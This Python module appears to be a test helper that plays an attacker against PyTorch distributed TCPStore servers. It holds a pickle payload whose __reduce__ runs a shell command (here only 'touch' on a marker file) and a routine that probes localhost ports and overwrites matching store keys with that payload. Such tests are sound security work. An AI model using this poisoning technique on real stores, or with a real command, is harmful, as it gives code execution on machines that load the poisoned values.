"""A stranger on the machine or its network: what it writes and where it connects."""

from __future__ import annotations

import os
import pickle
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist


class Runs:
    """Unpickled, it runs a command, which makes a file."""

    def __init__(self, harm: Path) -> None:
        self.harm = harm

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.harm}",)


class Stranger:
    """Writes a pickle that runs a command to every key with this word in it, of all stores that it finds."""

    def __init__(self, word: str, harm: Path) -> None:
        self._word, self._harm = word, harm
        self._stores: list[dist.TCPStore] = []
        self.poisoned: list[str] = []

    def knock(self, port: int) -> None:
        """Try whether a store is there."""
        with suppress(RuntimeError):  # torch's own errors, too
            store = dist.TCPStore(
                "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
            )
            store.list_keys()
            self._stores.append(store)

    def poison(self) -> None:
        """Write to what is there now."""
        for store in list(self._stores):
            try:
                for key in [key for key in store.list_keys() if self._word in key]:
                    store.set(key, pickle.dumps(Runs(self._harm)))
                    self.poisoned.append(key)
            except RuntimeError:  # it ended
                self._stores.remove(store)
